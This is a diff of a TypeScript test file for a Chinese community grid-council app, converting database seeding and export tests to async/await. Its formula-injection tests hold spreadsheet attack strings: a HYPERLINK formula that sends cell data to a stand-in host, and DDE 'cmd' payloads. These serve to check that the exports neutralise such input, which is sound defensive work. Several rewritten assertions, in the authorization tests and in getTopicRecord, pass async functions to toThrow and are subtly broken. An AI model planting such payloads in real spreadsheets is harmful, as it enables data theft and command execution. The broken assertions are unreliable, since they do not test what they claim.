@@ -33,6 +33,7 @@ import * as recordRoute from "@/app/topics/[id]/record.pdf/route";
 import { documentFromText } from "@/lib/richtext/document";
 import { actorOf, ctxAs, tempDb } from "../helpers/db";
 import { makeCommunity, makePerson } from "../helpers/factory";
+import { first } from "@/db/query";
 
 // The routes build the responses (headers, JSON errors): they are called as the app serves them,
 // with a bearer token, in the test's database (GRIDCOUNCIL_DB). Nobody has a session cookie here.
@@ -40,20 +41,20 @@ vi.mock("next-auth", async (importOriginal) => ({ ...(await importOriginal<typeo
 
 let t: ReturnType<typeof tempDb>;
 let db: DB;
-let place: ReturnType<typeof makeCommunity>;
-let ids: ReturnType<typeof seed>;
+let place: Awaited<ReturnType<typeof makeCommunity>>;
+let ids: Awaited<ReturnType<typeof seed>>;
 
 const created = new Date("2026-03-01T02:30:00Z"); // 10:30 in Beijing
 const closed = new Date("2026-04-10T16:05:00Z"); // 00:05 on 11 April in Beijing
 
-function seed() {
-  const chief = makePerson(db, place, "gridChief", { grid: "A" });
-  const chiefB = makePerson(db, place, "gridChief", { grid: "B" });
-  const admin = makePerson(db, place, "communityAdmin");
-  const resident = makePerson(db, place, "resident", { grid: "A" });
-  const supervisor = makePerson(db, place, "supervisor");
-  const cat = db.insert(agendaCategories).values({ communityId: place.community.id, name: "公共事务" }).returning().get();
-  const item = db.insert(agendaItems).values({ categoryId: cat.id, name: "楼道堆物" }).returning().get();
+async function seed() {
+  const chief = await makePerson(db, place, "gridChief", { grid: "A" });
+  const chiefB = await makePerson(db, place, "gridChief", { grid: "B" });
+  const admin = await makePerson(db, place, "communityAdmin");
+  const resident = await makePerson(db, place, "resident", { grid: "A" });
+  const supervisor = await makePerson(db, place, "supervisor");
+  const cat = await first(db.insert(agendaCategories).values({ communityId: place.community.id, name: "公共事务" }).returning());
+  const item = await first(db.insert(agendaItems).values({ categoryId: cat.id, name: "楼道堆物" }).returning());
   const topicBase = {
     communityId: place.community.id,
     agendaItemId: item.id,
@@ -65,17 +66,15 @@ function seed() {
   };
   // Rows written by hand, not makeTopic: the exports are compared field by field with a closed
   // topic's fixed dates and counts, a state past the vote that makeTopic does not reach.
-  const topic = db
+  const topic = await first(db
     .insert(topics)
     .values({ ...topicBase, gridId: place.gridA.id, title: "电动车进楼道充电问题", state: "closed", cosignCount: 6, opinionCount: 3, rectificationRound: 1, createdAt: created, closedAt: closed })
-    .returning()
-    .get();
-  const topicB = db.insert(topics).values({ ...topicBase, gridId: place.gridB.id, proposerId: chiefB.id, title: "第二网格的议题", state: "consulting" }).returning().get();
-  const plan = db.insert(plans).values({ topicId: topic.id, title: "建设充电棚", kind: "official", authorId: chief.id, currentRevision: 2 }).returning().get();
+    .returning());
+  const topicB = await first(db.insert(topics).values({ ...topicBase, gridId: place.gridB.id, proposerId: chiefB.id, title: "第二网格的议题", state: "consulting" }).returning());
+  const plan = await first(db.insert(plans).values({ topicId: topic.id, title: "建设充电棚", kind: "official", authorId: chief.id, currentRevision: 2 }).returning());
   for (const number of [1, 2])
-    db.insert(planRevisions)
-      .values({ planId: plan.id, number, authorId: chief.id, bodyJson: documentFromText("方案"), bodyHtml: "<p>方案</p>", responsibleText: number === 2 ? "测试物业" : "旧责任方", budgetFen: number === 2 ? 1234550 : 1, deadline: "2026-05-01", milestones: [] })
-      .run();
+    await db.insert(planRevisions)
+      .values({ planId: plan.id, number, authorId: chief.id, bodyJson: documentFromText("方案"), bodyHtml: "<p>方案</p>", responsibleText: number === 2 ? "测试物业" : "旧责任方", budgetFen: number === 2 ? 1234550 : 1, deadline: "2026-05-01", milestones: [] });
   const ballotBase = { communityId: place.community.id, gridId: place.gridA.id, kind: "single" as const, electorateKind: "gridResidents" as const, createdBy: chief.id, opensAt: created, closesAt: closed };
   // A result as closeInTx stores it (a BallotResult): the record must word it, not print its field names.
   const storedResult = {
@@ -94,36 +93,34 @@ function seed() {
     quorum: null,
     winningPlanId: null,
   };
-  const closedBallot = db
+  const closedBallot = await first(db
     .insert(ballots)
     .values({ ...ballotBase, topicId: topic.id, title: "表决：建设充电棚", rule: "simpleMajority", status: "closed", secret: true, electorCount: 40, votedCount: 31, passed: true, result: storedResult, closedAt: closed })
-    .returning()
-    .get();
-  const openBallot = db
+    .returning());
+  const openBallot = await first(db
     .insert(ballots)
     .values({ ...ballotBase, topicId: topic.id, title: "表决：追加预算", rule: "ownersMajority", electorateKind: "estateOwners", status: "open", secret: false, electorCount: 50, votedCount: 12, passed: null })
-    .returning()
-    .get();
-  db.insert(ballots).values({ ...ballotBase, gridId: place.gridB.id, topicId: topicB.id, title: "第二网格表决", rule: "simpleMajority" }).run();
-  db.insert(resolutions).values({ topicId: topic.id, ballotId: closedBallot.id, planId: plan.id, number: `T决〔2026〕${topic.id}号`, title: "关于建设充电棚的决议", text: "同意建设充电棚。" }).run();
-  const meeting = db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "三月网格议事会", startsAt: created, createdBy: chief.id, minutesPublishedAt: closed }).returning().get();
-  db.insert(meetingAgendaItems).values({ meetingId: meeting.id, topicId: topic.id, position: 1, conclusion: "同意起草充电棚方案" }).run();
-  const unpublished = db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "未公布纪要的会", startsAt: closed, createdBy: chief.id }).returning().get();
-  db.insert(meetingAgendaItems).values({ meetingId: unpublished.id, topicId: topic.id, position: 1, conclusion: "尚未公布的结论" }).run();
-  db.insert(topicEvents).values({ topicId: topic.id, actorId: resident.id, kind: "proposed", at: created }).run();
-  db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "admit", data: { level: "grid" }, at: created }).run();
-  db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "planDrafted", data: { title: "建设充电棚" }, at: closed }).run();
-  db.insert(supervisionRatings).values({ topicId: topic.id, round: 1, supervisorId: supervisor.id, process: 5, timeliness: 4, quality: 4, transparency: 5, satisfaction: 3, comment: "棚顶需加固", createdAt: closed }).run();
-  db.insert(satisfactionVotes).values({ topicId: topic.id, round: 1, personId: resident.id, answer: "satisfied" }).run();
+    .returning());
+  await db.insert(ballots).values({ ...ballotBase, gridId: place.gridB.id, topicId: topicB.id, title: "第二网格表决", rule: "simpleMajority" });
+  await db.insert(resolutions).values({ topicId: topic.id, ballotId: closedBallot.id, planId: plan.id, number: `T决〔2026〕${topic.id}号`, title: "关于建设充电棚的决议", text: "同意建设充电棚。" });
+  const meeting = await first(db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "三月网格议事会", startsAt: created, createdBy: chief.id, minutesPublishedAt: closed }).returning());
+  await db.insert(meetingAgendaItems).values({ meetingId: meeting.id, topicId: topic.id, position: 1, conclusion: "同意起草充电棚方案" });
+  const unpublished = await first(db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "未公布纪要的会", startsAt: closed, createdBy: chief.id }).returning());
+  await db.insert(meetingAgendaItems).values({ meetingId: unpublished.id, topicId: topic.id, position: 1, conclusion: "尚未公布的结论" });
+  await db.insert(topicEvents).values({ topicId: topic.id, actorId: resident.id, kind: "proposed", at: created });
+  await db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "admit", data: { level: "grid" }, at: created });
+  await db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "planDrafted", data: { title: "建设充电棚" }, at: closed });
+  await db.insert(supervisionRatings).values({ topicId: topic.id, round: 1, supervisorId: supervisor.id, process: 5, timeliness: 4, quality: 4, transparency: 5, satisfaction: 3, comment: "棚顶需加固", createdAt: closed });
+  await db.insert(satisfactionVotes).values({ topicId: topic.id, round: 1, personId: resident.id, answer: "satisfied" });
   return { chief, chiefB, admin, resident, supervisor, topic, topicB, closedBallot, openBallot, plan };
 }
 
-beforeEach(() => {
+beforeEach(async () => {
   t = tempDb();
   db = t.db;
   process.env.GRIDCOUNCIL_DB = t.file;
-  place = makeCommunity(db);
-  ids = seed();
+  place = await makeCommunity(db);
+  ids = await seed();
 });
 afterEach(() => t.cleanup());
 
@@ -142,17 +139,17 @@ const recordAs = (person: { id: number } | null, topicId: number, locale: "zh-CN
 const gridAScope = () => ({ communityId: place.community.id, gridId: place.gridA.id });
 
 describe("row builders", () => {
-  it("topics: Chinese headers and values, scoped to the grid", () => {
-    const table = topicRows(db, gridAScope());
+  it("topics: Chinese headers and values, scoped to the grid", async () => {
+    const table = await topicRows(db, gridAScope());
     expect(table.headers).toEqual(["编号", "标题", "网格", "清单事项", "阶段", "层级", "发起人", "附议人数", "意见数", "整改轮次", "发起时间", "办结时间"]);
     expect(table.headers).toBe(topicHeaders);
     expect(table.rows).toEqual([[ids.topic.id, "电动车进楼道充电问题", "第一网格", "楼道堆物", "已办结", "网格", ids.resident.name, 6, 3, 1, "2026-03-01 10:30", "2026-04-11 00:05"]]);
     // The community-wide scope includes grid B's topic too.
-    expect(topicRows(db, { communityId: place.community.id, gridId: null }).rows.map((r) => r[1])).toEqual(["电动车进楼道充电问题", "第二网格的议题"]);
+    expect((await topicRows(db, { communityId: place.community.id, gridId: null })).rows.map((r) => r[1])).toEqual(["电动车进楼道充电问题", "第二网格的议题"]);
   });
 
-  it("ballots: results of closed ballots only; an open ballot exposes no result", () => {
-    const table = ballotRows(db, gridAScope());
+  it("ballots: results of closed ballots only; an open ballot exposes no result", async () => {
+    const table = await ballotRows(db, gridAScope());
     expect(table.headers).toBe(ballotHeaders);
     expect(table.headers).toEqual(["编号", "议题", "表决规则", "表决人范围", "不记名", "开始", "截止", "应参与", "已参与", "是否通过"]);
     expect(table.rows).toHaveLength(2);
@@ -163,12 +160,12 @@ describe("row builders", () => {
     expect(o).not.toContain(50);
   });
 
-  it("ratings: one row per supervisor and round", () => {
-    const table = ratingRows(db, gridAScope());
+  it("ratings: one row per supervisor and round", async () => {
+    const table = await ratingRows(db, gridAScope());
     expect(table.headers).toBe(ratingHeaders);
     expect(table.headers).toEqual(["议题", "轮次", "督导员", "过程规范", "办理时效", "完成质量", "公开透明", "群众满意", "意见", "时间"]);
     expect(table.rows).toEqual([["电动车进楼道充电问题", 1, ids.supervisor.name, 5, 4, 4, 5, 3, "棚顶需加固", "2026-04-11 00:05"]]);
-    expect(ratingRows(db, { communityId: place.community.id, gridId: place.gridB.id }).rows).toEqual([]);
+    expect((await ratingRows(db, { communityId: place.community.id, gridId: place.gridB.id })).rows).toEqual([]);
   });
 
   it("dates are in Beijing time", () => {
@@ -178,8 +175,8 @@ describe("row builders", () => {
 });
 
 describe("files", () => {
-  it("CSV starts with a BOM and round-trips the Chinese text", () => {
-    const csv = toCsv(topicRows(db, gridAScope()));
+  it("CSV starts with a BOM and round-trips the Chinese text", async () => {
+    const csv = toCsv(await topicRows(db, gridAScope()));
     expect(csv.startsWith(BOM)).toBe(true);
     const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
     expect(parsed[0]).toEqual(topicHeaders);
@@ -187,7 +184,7 @@ describe("files", () => {
   });
 
   it("XLSX opens with exceljs and has the header row", async () => {
-    const buf = await toXlsx(ballotRows(db, gridAScope()), "表决");
+    const buf = await toXlsx(await ballotRows(db, gridAScope()), "表决");
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(buf as unknown as ArrayBuffer);
     const ws = wb.getWorksheet("表决")!;
@@ -224,9 +221,9 @@ describe("cells a spreadsheet would execute", () => {
   const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example")\n第二行'];
 
   it("CSV: a topic title, a grid name and a rating comment that start like a formula arrive as text; numbers stay numbers", async () => {
-    db.update(topics).set({ title: attacks[0]! }).where(eq(topics.id, ids.topic.id)).run();
-    db.update(grids).set({ name: "=1+1" }).where(eq(grids.id, place.gridA.id)).run();
-    db.update(supervisionRatings).set({ comment: attacks[6]! }).run();
+    await db.update(topics).set({ title: attacks[0]! }).where(eq(topics.id, ids.topic.id));
+    await db.update(grids).set({ name: "=1+1" }).where(eq(grids.id, place.gridA.id));
+    await db.update(supervisionRatings).set({ comment: attacks[6]! });
     const res = await exportAs(ids.chief, "topics.csv", `?gridId=${place.gridA.id}`);
     const text = new TextDecoder().decode(await res.arrayBuffer());
     const row = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data[1]!;
@@ -235,7 +232,7 @@ describe("cells a spreadsheet would execute", () => {
     expect(row[0]).toBe(String(ids.topic.id));
     expect(text).not.toMatch(/(^|[\r\n,])"?=/);
 
-    const ratings = Papa.parse<string[]>(toCsv(ratingRows(db, gridAScope())).slice(1), { skipEmptyLines: true }).data[1]!;
+    const ratings = Papa.parse<string[]>(toCsv(await ratingRows(db, gridAScope())).slice(1), { skipEmptyLines: true }).data[1]!;
     expect(ratings[8]).toBe(`'${attacks[6]}`);
   });
 
@@ -273,24 +270,24 @@ describe("authorization", () => {
   it("a chief of another grid is refused (403), and a chief cannot export the whole community", async () => {
     const res = await exportAs(ids.chiefB, "ballots.xlsx", `?gridId=${place.gridA.id}`);
     expect(res.status).toBe(403);
-    expect(() => resolveExportScope(db, actorOf(db, ids.chief.id), { gridId: null })).toThrow(/forbidden/);
-    expect(resolveExportScope(db, actorOf(db, ids.chiefB.id), { gridId: place.gridB.id })).toEqual({ communityId: place.community.id, gridId: place.gridB.id });
+    expect(async () => resolveExportScope(db, await actorOf(db, ids.chief.id), { gridId: null })).toThrow(/forbidden/);
+    expect(await resolveExportScope(db, await actorOf(db, ids.chiefB.id), { gridId: place.gridB.id })).toEqual({ communityId: place.community.id, gridId: place.gridB.id });
   });
 
   it("nobody signed in gets 401; community admins get their community", async () => {
     const res = await exportAs(null, "topics.csv", "");
     expect(res.status).toBe(401);
-    expect(resolveExportScope(db, actorOf(db, ids.admin.id), {})).toEqual({ communityId: place.community.id, gridId: null });
-    const other = makeCommunity(db);
-    const outsider = makePerson(db, other, "communityAdmin");
+    expect(await resolveExportScope(db, await actorOf(db, ids.admin.id), {})).toEqual({ communityId: place.community.id, gridId: null });
+    const other = await makeCommunity(db);
+    const outsider = await makePerson(db, other, "communityAdmin");
     const refused = await exportAs(outsider, "topics.csv", `?gridId=${place.gridA.id}`);
     expect(refused.status).toBe(403);
   });
 });
 
 describe("topic record PDF", () => {
-  it("gathers published conclusions, current plan revision, closed ballots and rating means", () => {
-    const r = loadTopicRecord(db, ids.topic);
+  it("gathers published conclusions, current plan revision, closed ballots and rating means", async () => {
+    const r = await loadTopicRecord(db, ids.topic);
     expect(r.description).toBe("一楼楼道停放电动车，存在消防隐患。\n希望统一规划充电棚。");
     expect(r.grid).toBe("第一网格");
     expect(r.item).toBe("楼道堆物");
@@ -353,16 +350,16 @@ describe("topic record PDF", () => {
     expect(((await res.json()) as { error: { code: string; message: string } }).error).toMatchObject({ code: "font_missing", message: expect.stringContaining("fonts-noto-cjk") });
   });
 
-  it("getTopicRecord: the same plain data for whoever may see the topic, not found for anyone else", () => {
-    expect(getTopicRecord(ctxAs(ids.resident, db), { topicId: ids.topic.id })).toEqual(loadTopicRecord(db, ids.topic));
-    const outsider = makePerson(db, makeCommunity(db), "resident");
-    expect(() => getTopicRecord(ctxAs(outsider, db), { topicId: ids.topic.id })).toThrow(/topicNotFound/);
-    expect(() => getTopicRecord(ctxAs(ids.resident, db), { topicId: "abc" })).toThrow();
+  it("getTopicRecord: the same plain data for whoever may see the topic, not found for anyone else", async () => {
+    expect(await getTopicRecord(await ctxAs(ids.resident, db), { topicId: ids.topic.id })).toEqual(await loadTopicRecord(db, ids.topic));
+    const outsider = await makePerson(db, await makeCommunity(db), "resident");
+    expect(async () => getTopicRecord(await ctxAs(outsider, db), { topicId: ids.topic.id })).toThrow(/topicNotFound/);
+    expect(async () => getTopicRecord(await ctxAs(ids.resident, db), { topicId: "abc" })).toThrow();
   });
 
   it("is refused to whoever may not see the topic", async () => {
-    const other = makeCommunity(db);
-    const outsider = makePerson(db, other, "resident");
+    const other = await makeCommunity(db);
+    const outsider = await makePerson(db, other, "resident");
     expect((await recordAs(outsider, ids.topic.id)).status).toBe(404);
     expect((await recordAs(null, ids.topic.id)).status).toBe(401);
   });
